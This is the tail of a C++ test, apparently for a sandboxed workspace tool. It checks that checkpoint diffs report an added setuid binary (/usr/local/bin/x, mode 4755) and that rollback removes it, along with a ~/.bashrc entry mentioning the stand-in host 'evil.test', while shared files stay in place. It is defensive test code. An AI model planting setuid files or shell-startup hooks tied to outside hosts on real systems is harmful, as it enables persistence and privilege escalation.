  EXPECT_EQ(diff.out.find("/workspace/"), std::string::npos) << "shares are not on the disk";
  auto json = W().Cli({"diff", "ckpt", "cp-1", "--json"});
  EXPECT_NE(json.out.find("\"path\":\"/usr/local/bin/x\",\"change\":\"added\",\"type\":\"file\""),
            std::string::npos)
      << json.out;
  EXPECT_NE(json.out.find("\"mode\":\"4755\""), std::string::npos) << json.out;
  // Roll back: gone, while what came before the checkpoint and the shares stay.
  auto rollback = W().Cli({"rollback", "ckpt"});
  ASSERT_EQ(rollback.code, 0) << rollback.err;
  EXPECT_NE(rollback.err.find("back at checkpoint cp-1"), std::string::npos) << rollback.err;
  auto after = Guest("ckpt",
                     "ls /usr/local/bin/x 2>&1; grep -c evil.test ~/.bashrc; cat ~/before.txt "
                     "/workspace/during.txt");
  EXPECT_NE(after.out.find("cannot access '/usr/local/bin/x'"), std::string::npos) << after.out;
  EXPECT_NE(after.out.find("\n0\nbefore\nshared\n"), std::string::npos) << after.out;
  auto again = W().Cli({"diff", "ckpt", "cp-1", "--json"});
  ASSERT_EQ(again.code, 0) << again.err;
  EXPECT_NE(again.out.find("\"entries\":[]"), std::string::npos) << again.out;
  auto list = W().Cli({"checkpoint", "ckpt", "--list"});
  EXPECT_EQ(list.out.rfind("cp-1 ", 0), 0u) << list.out;
  EXPECT_EQ(W().Cli({"destroy", "--force", "ckpt"}).code, 0);
}

}  // namespace
}  // namespace ws::test
